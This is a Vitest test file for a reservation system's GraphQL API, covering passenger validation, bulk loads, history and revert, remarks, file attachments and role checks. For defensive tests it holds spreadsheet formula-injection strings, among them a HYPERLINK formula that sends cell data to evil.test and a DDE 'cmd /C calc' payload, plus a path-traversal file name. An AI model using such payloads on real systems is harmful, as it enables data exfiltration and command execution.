import { beforeAll, describe, expect, it } from 'vitest';
import {
  FILE_NAME_TOO_LONG, FILE_TOO_LARGE, INVALID_BASE64, MAX_DOCUMENT_BYTES, TYPE_MISMATCH, TYPE_NOT_ALLOWED,
} from '../../domain/reservationDocuments.ts';
import {
  ADD_PASSENGERS, BIRTH_DATE_FUTURE, CANNOT_REVERT, DOCUMENT_CHARACTERS, DOCUMENT_TAKEN, INVALID_DATE, LOAD_ADDS_ONLY,
  MAX_PASSENGERS_EXCEEDED, NOT_LATEST_CHANGE, NO_CONTROL_CHARACTERS, RESERVATION_CANCELLED, TOO_MANY_ROWS,
  revertPassengerChange,
} from '../../domain/reservationPassengers.ts';
import type { Viewer } from '../../context.ts';
import {
  UNKNOWN_ID, codeOf, expectValidation, ok, signIn, tableDump, type SignedIn, fieldErrorsOf, reasonOf,
} from '../../testing/adminFixtures.ts';
import { signInCusco } from '../../testing/ouFixtures.ts';
import { ouId } from '../../testing/productFixtures.ts';
import { createFixtureReservation, passengerRefs } from '../../testing/reservationFixtures.ts';
import { dbKinds } from '../../testing/testServer.ts';
import { suiteServer } from '../../testing/suiteServer.ts';

const REQUIRED = 'This field is required';
const CHOICE = 'Choose one of the listed options';
const TODAY = '2031-05-10';

const PASSENGER_FIELDS = `idReservationPassenger idPassengerType passengerType { code } firstName lastName idDocumentType
  documentType { code } documentNumber idCitizenship citizenship { idCountry code } idGender gender { code } birthDate
  status version`;
const SAVE = `mutation ($id: ID!, $data: ReservationPassengerInput!) {
  saveReservationPassenger(idReservation: $id, data: $data) { ${PASSENGER_FIELDS} } }`;
const LOAD = `mutation ($id: ID!, $passengers: [ReservationPassengerInput!]!) {
  loadReservationPassengers(idReservation: $id, passengers: $passengers) { ${PASSENGER_FIELDS} } }`;
const DELETE = 'mutation ($id: ID!) { deleteReservationPassenger(idReservationPassenger: $id) }';
const HISTORY_FIELDS = 'idReservationHistory subject idSubject operation before after canRevert createdAt createdBy';
const READ = `query ($id: ID!) { getReservationById(id: $id) { version
  passengers { ${PASSENGER_FIELDS} history { ${HISTORY_FIELDS} } }
  remarks { idReservationRemark text createdAt createdBy }
  documents { idReservationDocument fileName mimeType sizeBytes displayable createdAt createdBy } } }`;
const REVERT = `mutation ($id: ID!) { revertReservationChange(idReservationHistory: $id) { ${HISTORY_FIELDS} } }`;
const REMARK = `mutation ($id: ID!, $text: String!) { addReservationRemark(idReservation: $id, text: $text) {
  idReservationRemark text createdAt createdBy } }`;
const ATTACH = `mutation ($data: ReservationDocumentInput!) { attachReservationDocument(data: $data) {
  idReservationDocument fileName mimeType sizeBytes displayable createdBy } }`;
const CONTENT = `query ($id: ID!) { getReservationDocumentContent(idReservationDocument: $id) { fileName mimeType contentBase64 } }`;
const DELETE_DOCUMENT = 'mutation ($id: ID!) { deleteReservationDocument(idReservationDocument: $id) }';

interface Passenger {
  idReservationPassenger: string; firstName: string; lastName: string; documentNumber: string; status: string;
  version: number; passengerType: { code: string } | null; documentType: { code: string } | null;
  gender: { code: string } | null; citizenship: { idCountry: string } | null; birthDate: string | null;
  history?: History[];
}
interface History {
  idReservationHistory: string; operation: string; before: string | null; after: string | null; canRevert: boolean;
  createdBy: string | null;
}

const PDF = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
const ZIP = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(40, 1)]);
const b64 = (bytes: Buffer) => bytes.toString('base64');

describe.each(dbKinds)('reservation passengers, remarks and documents (%s)', (kind) => {
  const { server } = suiteServer(kind, { today: TODAY });
  let admin: SignedIn;
  let cusco: SignedIn;
  let resview: SignedIn;
  let rescreate: SignedIn;
  let resdel: SignedIn;
  let idOu: string;
  let refs: Awaited<ReturnType<typeof passengerRefs>>;
  let adminViewer: Viewer;
  let codes = 0;

  beforeAll(async () => {
    [admin, resview, rescreate, resdel] = await Promise.all(['ADMIN', 'RESVIEW', 'RESCREATE', 'RESDEL'].map((r) => signIn(server, r)));
    cusco = await signInCusco(server);
    idOu = await ouId(server.db, 'LIM');
    refs = await passengerRefs(server.db);
    adminViewer = { idUser: admin.idUser, idOu, roles: ['ADMIN'], isAdmin: true } as Viewer;
  });

  const reservation = (spec: { passengerCount?: number; status?: 'CANCELLED' | 'QUOTE' } = {}) =>
    createFixtureReservation(server.db, idOu, { code: `T-${++codes}`, ...spec });
  const pax = (n: number, extra: Record<string, unknown> = {}) => ({
    idPassengerType: refs.adult, firstName: `Ana ${n}`, lastName: 'Quispe Núñez', idDocumentType: refs.passport,
    documentNumber: `P${1000 + n}`, idCitizenship: refs.country, idGender: refs.female, birthDate: '1990-01-02', ...extra,
  });
  const save = (id: string, data: Record<string, unknown>, who = admin) =>
    who.gql<{ saveReservationPassenger: Passenger }>(SAVE, { id, data });
  const load = (id: string, passengers: Record<string, unknown>[], who = admin) =>
    who.gql<{ loadReservationPassengers: Passenger[] }>(LOAD, { id, passengers });
  const read = async (id: string, who = admin) =>
    ok(await who.gql<{ getReservationById: { version: number; passengers: Passenger[]; remarks: { text: string; createdBy: string }[];
      documents: { fileName: string; displayable: boolean }[] } }>(READ, { id })).getReservationById;
  const reservationRow = async (id: string) => (await server.db.query<{ version: number; text: string }>(
    'select version, passenger_search_text as text from reservation where id_reservation = $1', [id]))[0];
  const activeCount = async (id: string) => (await server.db.query<{ n: number }>(
    `select count(*)::int as n from reservation_passenger where id_reservation = $1 and status = 'ACTIVE'`, [id]))[0].n;
  const TABLES = ['reservation', 'reservation_passenger', 'reservation_history', 'reservation_remark', 'reservation_document'];
  const dump = async () => Object.fromEntries(await Promise.all(TABLES.map(async (t) => [t, await tableDump(server, t)])));

  describe('saveReservationPassenger', () => {
    it('adds a passenger with every field, keeps the search text and bumps the version', async () => {
      const id = await reservation();
      const before = await reservationRow(id);
      const saved = ok(await save(id, pax(1, { firstName: '  Ána  ' }))).saveReservationPassenger;
      expect(saved).toMatchObject({
        firstName: 'Ána', lastName: 'Quispe Núñez', documentNumber: 'P1001', status: 'ACTIVE', version: 1, birthDate: '1990-01-02',
        passengerType: { code: 'ADULT' }, documentType: { code: 'PASSPORT' }, gender: { code: 'FEMALE' },
        citizenship: { idCountry: refs.country },
      });
      const after = await reservationRow(id);
      expect(after.version).toBe(before.version + 1);
      expect(after.text).toBe('ana quispe nunez p1001');
      const [p] = (await read(id)).passengers;
      expect(p.history!.map((h) => [h.operation, h.before, h.canRevert, h.createdBy])).toEqual([['CREATE', null, false, 'Demo Administrator']]);
    });

    it('answers every required field at once and writes nothing', async () => {
      const id = await reservation();
      const before = await dump();
      expectValidation(await save(id, {}), {
        idPassengerType: REQUIRED, firstName: REQUIRED, lastName: REQUIRED, idDocumentType: REQUIRED, documentNumber: REQUIRED,
      });
      expectValidation(await save(id, pax(1, { firstName: '   ', documentNumber: ' ' })), { firstName: REQUIRED, documentNumber: REQUIRED });
      expect(await dump()).toEqual(before);
    });

    it('refuses wrong choices, bad dates, long or odd text', async () => {
      const id = await reservation();
      const before = await dump();
      expectValidation(await save(id, pax(1, {
        idPassengerType: refs.passport, idDocumentType: refs.adult, idGender: refs.usd, idCitizenship: UNKNOWN_ID,
        birthDate: '2031-05-11',
      })), { idPassengerType: CHOICE, idDocumentType: CHOICE, idGender: CHOICE, idCitizenship: CHOICE, birthDate: BIRTH_DATE_FUTURE });
      expectValidation(await save(id, pax(1, {
        firstName: 'x'.repeat(101), lastName: 'Tab\there', documentNumber: 'P-1;drop', idCitizenship: 'not-a-uuid', birthDate: '1850-01-01',
      })), {
        firstName: 'At most 100 characters', lastName: NO_CONTROL_CHARACTERS, documentNumber: DOCUMENT_CHARACTERS,
        idCitizenship: CHOICE, birthDate: INVALID_DATE,
      });
      expect(codeOf(await save(id, pax(1, { birthDate: '31/12/1990' })))).toBeDefined();
      expect(await dump()).toEqual(before);
      ok(await save(id, pax(2, { birthDate: TODAY, idGender: null, idCitizenship: null })));
    });

    it('keeps a document unique per type among the non-cancelled passengers, in any case', async () => {
      const id = await reservation({ passengerCount: 5 });
      ok(await save(id, pax(1, { documentNumber: 'AB123' })));
      const before = await dump();
      const taken = await save(id, pax(2, { documentNumber: 'ab123' }));
      expectValidation(taken, { documentNumber: DOCUMENT_TAKEN });
      expect(fieldErrorsOf(taken)).toEqual([{ path: 'documentNumber', code: 'DUPLICATE', params: { documentNumber: 'ab123' } }]);
      expect(await dump()).toEqual(before);
      ok(await save(id, pax(3, { documentNumber: 'AB123', idDocumentType: refs.dni })));
      const cancelled = ok(await save(id, pax(4, { documentNumber: 'ZZ9', status: 'CANCELLED' }))).saveReservationPassenger;
      ok(await save(id, pax(5, { documentNumber: 'ZZ9' })));
      // Bringing the cancelled one back would duplicate it.
      expectValidation(await save(id, { ...pax(4, { documentNumber: 'ZZ9' }), idReservationPassenger: cancelled.idReservationPassenger, status: 'ACTIVE' }),
        { documentNumber: DOCUMENT_TAKEN });
      // The same reservation in another reservation is no clash.
      ok(await save(await reservation(), pax(1, { documentNumber: 'AB123' })));
    });

    it('updates a passenger of the reservation, keeping history and its status when none is sent', async () => {
      const id = await reservation();
      const added = ok(await save(id, pax(1, { status: 'WAITLISTED' }))).saveReservationPassenger;
      const version = (await reservationRow(id)).version;
      const updated = ok(await save(id, { ...pax(1, { lastName: 'Mamani' }), idReservationPassenger: added.idReservationPassenger })).saveReservationPassenger;
      expect(updated).toMatchObject({ idReservationPassenger: added.idReservationPassenger, lastName: 'Mamani', status: 'WAITLISTED', version: 2 });
      expect((await reservationRow(id)).version).toBe(version + 1);
      const [p] = (await read(id)).passengers;
      expect(p.history!.map((h) => h.operation)).toEqual(['UPDATE', 'CREATE']);
      expect(JSON.parse(p.history![0].before!)).toMatchObject({ lastName: 'Quispe Núñez', version: 1 });
      expect(JSON.parse(p.history![0].after!)).toMatchObject({ lastName: 'Mamani', version: 2 });
      expect(p.history!.map((h) => h.canRevert)).toEqual([true, false]);
      // Saving the form unchanged writes nothing.
      const unchanged = await dump();
      ok(await save(id, { ...pax(1, { lastName: 'Mamani' }), idReservationPassenger: added.idReservationPassenger }));
      expect(await dump()).toEqual(unchanged);
      // A passenger of another reservation is not this one's.
      expect(codeOf(await save(await reservation(), { ...pax(1), idReservationPassenger: added.idReservationPassenger }))).toBe('NOT_FOUND');
      expect(codeOf(await save(id, { ...pax(1), idReservationPassenger: UNKNOWN_ID }))).toBe('NOT_FOUND');
    });

    it('never lets active passengers exceed the passenger count', async () => {
      const id = await reservation({ passengerCount: 2 });
      ok(await save(id, pax(1)));
      ok(await save(id, pax(2)));
      const before = await dump();
      const refused = await save(id, pax(3));
      expect(codeOf(refused)).toBe('MAX_PASSENGERS_EXCEEDED');
      expect(refused.errors![0].message).toBe(MAX_PASSENGERS_EXCEEDED);
      expect(reasonOf(refused)).toEqual({ reason: 'PASSENGER_LIMIT', params: { max: 2, active: 3 } });
      expect(await dump()).toEqual(before);
      const waiting = ok(await save(id, pax(3, { status: 'WAITLISTED' }))).saveReservationPassenger;
      expect(codeOf(await save(id, { ...pax(3), idReservationPassenger: waiting.idReservationPassenger, status: 'ACTIVE' })))
        .toBe('MAX_PASSENGERS_EXCEEDED');
      expect(await activeCount(id)).toBe(2);
    });

    it('refuses every change to a cancelled reservation', async () => {
      const id = await reservation();
      ok(await save(id, pax(1)));
      const [{ idReservationPassenger }] = await server.db.query<{ idReservationPassenger: string }>(
        'select id_reservation_passenger as "idReservationPassenger" from reservation_passenger where id_reservation = $1', [id]);
      await server.db.query(`update reservation set status = 'CANCELLED' where id_reservation = $1`, [id]);
      const before = await dump();
      for (const response of [await save(id, pax(2)), await load(id, [pax(3)]), await admin.gql(DELETE, { id: idReservationPassenger })]) {
        expect(codeOf(response)).toBe('CONFLICT');
        expect(response.errors![0].message).toBe(RESERVATION_CANCELLED);
      }
      expect(await dump()).toEqual(before);
    });
  });

  describe('loadReservationPassengers (the Excel load)', () => {
    it('adds every row in order, or none', async () => {
      const id = await reservation({ passengerCount: 5 });
      ok(await save(id, pax(0)));
      const loaded = ok(await load(id, [pax(1), pax(2, { idPassengerType: refs.child }), pax(3, { status: 'WAITLISTED' })])).loadReservationPassengers;
      expect(loaded.map((p) => [p.firstName, p.passengerType?.code, p.status])).toEqual([
        ['Ana 1', 'ADULT', 'ACTIVE'], ['Ana 2', 'CHILD', 'ACTIVE'], ['Ana 3', 'ADULT', 'WAITLISTED']]);
      expect((await read(id)).passengers.map((p) => p.firstName)).toEqual(['Ana 0', 'Ana 1', 'Ana 2', 'Ana 3']);
      expect((await reservationRow(id)).text).toContain('ana 3 quispe nunez p1003');
    });

    it('names the field of every bad row, duplicates within the file too, and saves nothing', async () => {
      const id = await reservation({ passengerCount: 10 });
      ok(await save(id, pax(0, { documentNumber: 'TAKEN1' })));
      const before = await dump();
      expectValidation(await load(id, [
        pax(1),
        pax(2, { firstName: '', idGender: refs.adult }),
        pax(3, { documentNumber: 'p1001' }),
        pax(4, { documentNumber: 'taken1', birthDate: '2040-01-01' }),
        { ...pax(5), idReservationPassenger: UNKNOWN_ID },
        pax(6, { idDocumentType: null, idCitizenship: UNKNOWN_ID }),
      ]), {
        'passengers.1.firstName': REQUIRED, 'passengers.1.idGender': CHOICE,
        'passengers.2.documentNumber': DOCUMENT_TAKEN,
        'passengers.3.documentNumber': DOCUMENT_TAKEN, 'passengers.3.birthDate': BIRTH_DATE_FUTURE,
        'passengers.4.idReservationPassenger': LOAD_ADDS_ONLY,
        'passengers.5.idDocumentType': REQUIRED, 'passengers.5.idCitizenship': CHOICE,
      });
      expect(await dump()).toEqual(before);
    });

    it('refuses more passengers than the reservation is for, an empty load and more than 500 rows', async () => {
      const id = await reservation({ passengerCount: 3 });
      ok(await save(id, pax(0)));
      const before = await dump();
      const refused = await load(id, [pax(1), pax(2), pax(3)]);
      expect(codeOf(refused)).toBe('MAX_PASSENGERS_EXCEEDED');
      expect(refused.errors![0].message).toBe(MAX_PASSENGERS_EXCEEDED);
      expectValidation(await load(id, []), { passengers: ADD_PASSENGERS });
      expectValidation(await load(id, Array.from({ length: 501 }, (_, i) => pax(i))), { passengers: TOO_MANY_ROWS });
      expect(await dump()).toEqual(before);
      ok(await load(id, [pax(1), pax(2), pax(3, { status: 'WAITLISTED' })]));
      expect(await activeCount(id)).toBe(3);
    });

    it('stores formula-looking text verbatim, as plain text', async () => {
      const id = await reservation({ passengerCount: 4 });
      const formulas = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@cmd|\' /C calc\'!A0'];
      const loaded = ok(await load(id, formulas.map((f, i) => pax(i, { firstName: f, lastName: `${f} ` })))).loadReservationPassengers;
      expect(loaded.map((p) => p.firstName)).toEqual(formulas);
      const rows = await server.db.query<{ first: string; last: string }>(
        'select first_name as first, last_name as last from reservation_passenger where id_reservation = $1 order by sort_order', [id]);
      expect(rows).toEqual(formulas.map((f) => ({ first: f, last: f })));
    });
  });

  describe('concurrency', () => {
    it('simultaneous saves and loads never take active passengers above the count', async () => {
      const id = await reservation({ passengerCount: 3 });
      const callers = await Promise.all(Array.from({ length: 4 }, () => signIn(server, 'ADMIN')));
      const results = await Promise.all([
        ...Array.from({ length: 8 }, (_, i) => save(id, pax(i), callers[i % 4])),
        ...Array.from({ length: 4 }, (_, i) => load(id, [pax(100 + 2 * i), pax(101 + 2 * i)], callers[i])),
      ]);
      for (const r of results) if (r.errors) expect(codeOf(r)).toBe('MAX_PASSENGERS_EXCEEDED');
      expect(await activeCount(id)).toBe(3);
      const history = await server.db.query<{ n: number }>(
        'select count(*)::int as n from reservation_history where id_reservation = $1', [id]);
      expect(history[0].n).toBe(3);
    });
  });

  describe('deleteReservationPassenger', () => {
    it('deletes, keeping the row in history and the search text in step', async () => {
      const id = await reservation();
      const a = ok(await save(id, pax(1))).saveReservationPassenger;
      ok(await save(id, pax(2)));
      const version = (await reservationRow(id)).version;
      expect(ok(await resdel.gql<{ deleteReservationPassenger: boolean }>(DELETE, { id: a.idReservationPassenger })).deleteReservationPassenger).toBe(true);
      expect((await read(id)).passengers.map((p) => p.firstName)).toEqual(['Ana 2']);
      const row = await reservationRow(id);
      expect(row.version).toBe(version + 1);
      expect(row.text).not.toContain('p1001');
      const [entry] = await server.db.query<{ operation: string; before: { firstName: string }; after: unknown }>(
        `select operation, before, after from reservation_history where id_subject = $1 order by created_at desc limit 1`,
        [a.idReservationPassenger]);
      expect(entry.operation).toBe('DELETE');
      expect(entry.after).toBeNull();
      expect(codeOf(await admin.gql(DELETE, { id: a.idReservationPassenger }))).toBe('NOT_FOUND');
      expect(codeOf(await admin.gql(DELETE, { id: 'nonsense' }))).toBe('NOT_FOUND');
    });
  });

  describe('history and revert', () => {
    const entries = async (idPassenger: string) => server.db.query<{ id: string; operation: string }>(
      `select id_reservation_history as id, operation from reservation_history where id_subject = $1
       order by created_at desc, id_reservation_history desc`,
      [idPassenger]);
    const revert = (idReservationHistory: string) =>
      server.db.transaction((tx) => revertPassengerChange(tx, { idReservationHistory }, adminViewer));
    const refusal = async (promise: Promise<unknown>) => {
      try {
        await promise;
      } catch (error) {
        const e = error as { message: string; extensions: { code: string; reason?: string } };
        return { code: e.extensions.code, reason: e.extensions.reason, message: e.message };
      }
      throw new Error('expected a refusal');
    };

    it('restores the previous version as a new change; only the latest change can be reverted', async () => {
      const id = await reservation();
      const a = ok(await save(id, pax(1))).saveReservationPassenger;
      ok(await save(id, { ...pax(1, { firstName: 'Changed' }), idReservationPassenger: a.idReservationPassenger }));
      ok(await save(id, { ...pax(1, { firstName: 'Twice' }), idReservationPassenger: a.idReservationPassenger }));
      const [latest, middle, created] = await entries(a.idReservationPassenger);
      expect(await refusal(revert(middle.id))).toEqual({ code: 'CONFLICT', reason: 'NOT_LATEST_CHANGE', message: NOT_LATEST_CHANGE });
      const version = (await reservationRow(id)).version;
      const entry = await revert(latest.id);
      expect(entry).toMatchObject({ operation: 'REVERT', subject: 'PASSENGER', idSubject: a.idReservationPassenger, canRevert: true });
      expect(JSON.parse(entry.after!)).toMatchObject({ firstName: 'Changed' });
      expect(JSON.parse(entry.before!)).toMatchObject({ firstName: 'Twice' });
      expect((await read(id)).passengers[0]).toMatchObject({ firstName: 'Changed', version: 4 });
      expect((await reservationRow(id)).version).toBe(version + 1);
      expect((await read(id)).passengers[0].history!.map((h) => [h.operation, h.canRevert]))
        .toEqual([['REVERT', true], ['UPDATE', false], ['UPDATE', false], ['CREATE', false]]);
      // A creation has nothing to go back to.
      await server.db.query('delete from reservation_history where id_reservation_history <> $1 and id_subject = $2', [created.id, a.idReservationPassenger]);
      expect(await refusal(revert(created.id))).toEqual({ code: 'CONFLICT', reason: 'NOTHING_TO_REVERT', message: CANNOT_REVERT });
    });

    it('brings a deleted passenger back, re-checking the count and the documents', async () => {
      const id = await reservation({ passengerCount: 2 });
      const a = ok(await save(id, pax(1))).saveReservationPassenger;
      ok(await save(id, pax(2)));
      ok(await admin.gql(DELETE, { id: a.idReservationPassenger }));
      const [deleted] = await entries(a.idReservationPassenger);
      const c = ok(await save(id, pax(3))).saveReservationPassenger;
      const before = await dump();
      expect(await refusal(revert(deleted.id))).toEqual({ code: 'MAX_PASSENGERS_EXCEEDED', reason: 'PASSENGER_LIMIT', message: MAX_PASSENGERS_EXCEEDED });
      ok(await admin.gql(DELETE, { id: c.idReservationPassenger }));
      ok(await save(id, pax(4, { documentNumber: 'P1001' })));
      await server.db.query('update reservation set passenger_count = 3 where id_reservation = $1', [id]);
      const taken = await dump();
      expect(await refusal(revert(deleted.id))).toEqual({ code: 'CONFLICT', reason: 'DUPLICATE_DOCUMENT', message: DOCUMENT_TAKEN });
      expect(await dump()).toEqual(taken);
      expect(before).not.toEqual(taken);
      await server.db.query(`update reservation_passenger set document_number = 'OTHER' where id_reservation = $1 and document_number = 'P1001'`, [id]);
      await revert(deleted.id);
      const back = (await read(id)).passengers.find((p) => p.idReservationPassenger === a.idReservationPassenger);
      expect(back).toMatchObject({ firstName: 'Ana 1', documentNumber: 'P1001', status: 'ACTIVE' });
    });

    it('reverts through revertReservationChange, and another OU cannot', async () => {
      const id = await reservation();
      const a = ok(await save(id, pax(1))).saveReservationPassenger;
      ok(await save(id, { ...pax(1, { lastName: 'Later' }), idReservationPassenger: a.idReservationPassenger }));
      const [latest] = await entries(a.idReservationPassenger);
      expect(codeOf(await cusco.gql(REVERT, { id: latest.id }))).toBe('NOT_FOUND');
      const cuscoViewer = { ...adminViewer, idOu: await ouId(server.db, 'CUZ') };
      await expect(server.db.transaction((tx) => revertPassengerChange(tx, { idReservationHistory: latest.id }, cuscoViewer)))
        .rejects.toMatchObject({ extensions: { code: 'NOT_FOUND' } });
      const reverted = ok(await admin.gql<{ revertReservationChange: History }>(REVERT, { id: latest.id })).revertReservationChange;
      expect(reverted.operation).toBe('REVERT');
      expect((await read(id)).passengers[0].lastName).toBe('Quispe Núñez');
    });
  });

  describe('remarks', () => {
    it('adds a trimmed remark by the user; newest first', async () => {
      const id = await reservation();
      const first = ok(await rescreate.gql<{ addReservationRemark: { text: string; createdBy: string } }>(REMARK, { id, text: '  Vegetarian meals ' })).addReservationRemark;
      expect(first).toMatchObject({ text: 'Vegetarian meals', createdBy: 'Demo Reservations: create' });
      ok(await admin.gql(REMARK, { id, text: 'Second' }));
      expect((await read(id)).remarks.map((r) => [r.text, r.createdBy])).toEqual([['Second', 'Demo Administrator'], ['Vegetarian meals', 'Demo Reservations: create']]);
    });

    it('refuses blank and long remarks, and other OUs', async () => {
      const id = await reservation();
      const before = await dump();
      expectValidation(await admin.gql(REMARK, { id, text: '   ' }), { text: REQUIRED });
      expectValidation(await admin.gql(REMARK, { id, text: 'x'.repeat(2001) }), { text: 'At most 2000 characters' });
      expect(codeOf(await cusco.gql(REMARK, { id, text: 'Hello' }))).toBe('NOT_FOUND');
      expect(codeOf(await resview.gql(REMARK, { id, text: 'Hello' }))).toBe('FORBIDDEN');
      expect(await dump()).toEqual(before);
      ok(await admin.gql(REMARK, { id, text: 'x'.repeat(2000) }));
    });
  });

  describe('documents', () => {
    const attach = (data: Record<string, unknown>, who = admin) =>
      who.gql<{ attachReservationDocument: { idReservationDocument: string; fileName: string; sizeBytes: number; displayable: boolean } }>(ATTACH, { data });

    it('attaches, lists, shows and deletes files kept in the database', async () => {
      const id = await reservation();
      const pdf = ok(await attach({ idReservation: id, fileName: '../../etc/Voucher.pdf', mimeType: 'application/pdf', contentBase64: b64(PDF) }, rescreate)).attachReservationDocument;
      expect(pdf).toMatchObject({ fileName: 'Voucher.pdf', sizeBytes: PDF.length, displayable: true });
      const xlsx = ok(await attach({ idReservation: id, fileName: 'C:\\lists\\pax.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', contentBase64: b64(ZIP) })).attachReservationDocument;
      expect(xlsx).toMatchObject({ fileName: 'pax.xlsx', displayable: false });
      ok(await attach({ idReservation: id, fileName: 'notes.txt', mimeType: 'text/plain', contentBase64: b64(Buffer.from('Año nuevo\n')) }));
      ok(await attach({ idReservation: id, fileName: 'map.png', mimeType: 'image/png', contentBase64: b64(PNG) }));
      expect((await read(id, resview)).documents.map((d) => [d.fileName, d.displayable]))
        .toEqual([['map.png', true], ['notes.txt', true], ['pax.xlsx', false], ['Voucher.pdf', true]]);
      const content = ok(await resview.gql<{ getReservationDocumentContent: { contentBase64: string; mimeType: string } }>(CONTENT, { id: pdf.idReservationDocument })).getReservationDocumentContent;
      expect(content).toEqual({ fileName: 'Voucher.pdf', mimeType: 'application/pdf', contentBase64: b64(PDF) });
      expect(codeOf(await cusco.gql(CONTENT, { id: pdf.idReservationDocument }))).toBe('NOT_FOUND');
      expect(codeOf(await cusco.gql(DELETE_DOCUMENT, { id: pdf.idReservationDocument }))).toBe('NOT_FOUND');
      expect(codeOf(await rescreate.gql(DELETE_DOCUMENT, { id: pdf.idReservationDocument }))).toBe('FORBIDDEN');
      expect(ok(await resdel.gql<{ deleteReservationDocument: boolean }>(DELETE_DOCUMENT, { id: pdf.idReservationDocument })).deleteReservationDocument).toBe(true);
      expect(codeOf(await admin.gql(CONTENT, { id: pdf.idReservationDocument }))).toBe('NOT_FOUND');
    });

    it('refuses wrong types, content that does not match, bad base64, and long names', async () => {
      const id = await reservation();
      const before = await dump();
      const base = { idReservation: id, fileName: 'a.pdf', mimeType: 'application/pdf', contentBase64: b64(PDF) };
      expectValidation(await attach({}), { idReservation: REQUIRED, fileName: REQUIRED, mimeType: REQUIRED, contentBase64: REQUIRED });
      expectValidation(await attach({ ...base, mimeType: 'application/x-msdownload' }), { mimeType: TYPE_NOT_ALLOWED });
      expectValidation(await attach({ ...base, mimeType: 'image/png' }), { contentBase64: TYPE_MISMATCH });
      expectValidation(await attach({ ...base, contentBase64: b64(Buffer.from('MZ\x90\x00 not a pdf')) }), { contentBase64: TYPE_MISMATCH });
      expectValidation(await attach({ ...base, mimeType: 'image/jpeg', contentBase64: b64(PNG) }), { contentBase64: TYPE_MISMATCH });
      expectValidation(await attach({ ...base, mimeType: 'text/plain', contentBase64: b64(PNG) }), { contentBase64: TYPE_MISMATCH });
      expectValidation(await attach({ ...base, mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }), { contentBase64: TYPE_MISMATCH });
      expectValidation(await attach({ ...base, contentBase64: 'JVBERi0x!!!' }), { contentBase64: INVALID_BASE64 });
      expectValidation(await attach({ ...base, contentBase64: 'JVBERi0' }), { contentBase64: INVALID_BASE64 });
      expectValidation(await attach({ ...base, contentBase64: '====' }), { contentBase64: INVALID_BASE64 });
      expectValidation(await attach({ ...base, fileName: `${'n'.repeat(197)}.pdf` }), { fileName: FILE_NAME_TOO_LONG });
      expectValidation(await attach({ ...base, fileName: 'dir/..' }), { fileName: REQUIRED });
      expect(codeOf(await attach({ ...base, idReservation: UNKNOWN_ID }))).toBe('NOT_FOUND');
      expect(codeOf(await cusco.gql(ATTACH, { data: base }))).toBe('NOT_FOUND');
      expect(codeOf(await attach(base, resview))).toBe('FORBIDDEN');
      expect(await dump()).toEqual(before);
    });

    it('takes a 5 MB file and refuses a larger one (or 5 MB of junk) with a VALIDATION message, not a transport error', async () => {
      const id = await reservation();
      const five = Buffer.alloc(MAX_DOCUMENT_BYTES, 0x41);
      PDF.copy(five);
      const okResponse = await attach({ idReservation: id, fileName: 'big.pdf', mimeType: 'application/pdf', contentBase64: b64(five) });
      expect(ok(okResponse).attachReservationDocument.sizeBytes).toBe(MAX_DOCUMENT_BYTES);
      const before = await dump();
      const over = await attach({ idReservation: id, fileName: 'bigger.pdf', mimeType: 'application/pdf', contentBase64: b64(Buffer.concat([five, Buffer.from('x')])) });
      expect(over.status).toBe(200);
      expectValidation(over, { contentBase64: FILE_TOO_LARGE });
      const junk = Buffer.alloc(MAX_DOCUMENT_BYTES);
      for (let i = 0; i < junk.length; i += 1) junk[i] = (i * 7919) % 251;
      expectValidation(await attach({ idReservation: id, fileName: 'junk.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', contentBase64: b64(junk) }),
        { contentBase64: TYPE_MISMATCH });
      expect(await dump()).toEqual(before);
      // Far beyond any file the body limit still stops the request before it is parsed.
      const huge = await admin.client.post('/graphql', { query: ATTACH, variables: { data: { contentBase64: 'A'.repeat(9 * 1024 * 1024) } } }, { token: admin.token });
      expect(huge.statusCode).toBe(413);
      expect(await dump()).toEqual(before);
    });
  });

  describe('roles and OU isolation', () => {
    it('RESVIEW reads only; RESCREATE adds; RESDEL deletes', async () => {
      const id = await reservation({ passengerCount: 5 });
      const before = await dump();
      expect(codeOf(await save(id, pax(1), resview))).toBe('FORBIDDEN');
      expect(codeOf(await load(id, [pax(1)], resview))).toBe('FORBIDDEN');
      expect(await dump()).toEqual(before);
      const added = ok(await save(id, pax(1), rescreate)).saveReservationPassenger;
      ok(await load(id, [pax(2)], rescreate));
      expect(codeOf(await rescreate.gql(DELETE, { id: added.idReservationPassenger }))).toBe('FORBIDDEN');
      expect(codeOf(await resview.gql(DELETE, { id: added.idReservationPassenger }))).toBe('FORBIDDEN');
      expect(codeOf(await save(id, pax(3), resdel))).toBe('FORBIDDEN');
      expect((await read(id, resview)).passengers).toHaveLength(2);
      ok(await resdel.gql(DELETE, { id: added.idReservationPassenger }));
    });

    it("another OU's reservation and passengers are NOT_FOUND, and nothing changes", async () => {
      const id = await reservation();
      const a = ok(await save(id, pax(1))).saveReservationPassenger;
      const before = await dump();
      expect(codeOf(await save(id, pax(2), cusco))).toBe('NOT_FOUND');
      expect(codeOf(await save(id, { ...pax(1), idReservationPassenger: a.idReservationPassenger }, cusco))).toBe('NOT_FOUND');
      expect(codeOf(await load(id, [pax(2)], cusco))).toBe('NOT_FOUND');
      expect(codeOf(await cusco.gql(DELETE, { id: a.idReservationPassenger }))).toBe('NOT_FOUND');
      expect(codeOf(await save('not-a-uuid', pax(2)))).toBe('NOT_FOUND');
      expect(await dump()).toEqual(before);
      // A Cusco reservation takes Cusco's passengers, and Lima cannot touch it.
      const cuscoReservation = await createFixtureReservation(server.db, await ouId(server.db, 'CUZ'), { code: `C-${++codes}` });
      ok(await save(cuscoReservation, pax(1), cusco));
      expect(codeOf(await save(cuscoReservation, pax(2)))).toBe('NOT_FOUND');
    });
  });
});
